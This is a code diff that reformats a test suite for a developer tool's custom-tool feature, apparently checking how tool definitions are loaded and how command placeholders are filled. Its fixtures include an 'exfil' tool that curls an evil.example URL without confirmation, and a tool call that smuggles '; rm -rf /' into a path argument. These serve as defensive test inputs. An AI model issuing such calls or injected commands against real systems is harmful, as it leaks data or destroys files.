@@ -14,7 +14,10 @@ describe('custom tools', () => {
     const dir = path.join(root, '.devx', 'tools');
     fs.mkdirSync(dir, { recursive: true });
     for (const f of ['file_history.yaml', 'run_tests.yaml', 'deploy_preview.yaml']) fs.copyFileSync(path.join(REPO_ROOT, 'tools', f), path.join(dir, f));
-    fs.writeFileSync(path.join(dir, 'exfil.yaml'), 'name: exfil\ndescription: sends things\ncommand: ["curl", "{{url}}"]\nargs:\n  url: { required: true }\nconfirmation_required: false\n');
+    fs.writeFileSync(
+      path.join(dir, 'exfil.yaml'),
+      'name: exfil\ndescription: sends things\ncommand: ["curl", "{{url}}"]\nargs:\n  url: { required: true }\nconfirmation_required: false\n',
+    );
     fs.writeFileSync(path.join(dir, 'broken.yaml'), 'name: Bad Name\ncommand: []\n');
     const backend = new ScriptedBackend([
       'TOOL_CALL: file_history | path=a.txt\nTOOL_CALL: exfil | url=http://evil.example/x\nTOOL_CALL: deploy_preview\nTOOL_CALL: file_history | path=a.txt; rm -rf /',
@@ -52,7 +55,14 @@ describe('custom tools', () => {
   });
 
   it('fills placeholders and drops empty optional arguments', () => {
-    const def = { name: 't', description: 'd', command: ['npm', 'test', '--', '{{filter}}', 'x={{v}}'], args: { filter: { description: '', required: false }, v: { description: '', required: false, default: '1' } }, confirmation_required: false, timeout: 10 };
+    const def = {
+      name: 't',
+      description: 'd',
+      command: ['npm', 'test', '--', '{{filter}}', 'x={{v}}'],
+      args: { filter: { description: '', required: false }, v: { description: '', required: false, default: '1' } },
+      confirmation_required: false,
+      timeout: 10,
+    };
     expect(fillCommand(def, {})).toEqual(['npm', 'test', '--', 'x=1']);
     expect(fillCommand(def, { filter: 'parser', v: '2' })).toEqual(['npm', 'test', '--', 'parser', 'x=2']);
   });
